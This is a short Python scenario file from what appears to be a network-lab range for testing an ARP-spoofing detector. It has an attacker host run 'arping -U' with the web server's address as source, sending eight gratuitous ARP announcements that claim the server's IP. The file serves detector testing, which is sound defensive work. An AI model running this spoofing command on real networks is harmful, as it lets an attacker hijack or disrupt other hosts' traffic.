"""arping -U: gratuitous requests in a server's name."""

from lab.range import Range
from lab.scenario import Scenario


def run(net: Range) -> None:
    attacker, web = net.inside("attacker"), net.web()
    net.everyday()
    net.quiet(3)
    with net.attack(
        "arp-spoofing",
        by=attacker,
        attackers=[attacker.mac],
        victims=[web],
        others={"claimed": [web]},
        frames=f"arp and arp src host {web.ip}",
    ):
        net.tool(attacker, *f"arping -U -i eth0 -c 8 -W 1 -S {web.ip} {web.ip}".split(), seconds=15)
    net.quiet(3)


SCENARIO = Scenario(
    name="arp-spoofing-held-gratuitous",
    about="arping -U announces to all that a web server's address is at the attacker, eight times.",
    detectors=("arp-spoofing",),
    tools={"arping": "arping"},
    run=run,
)
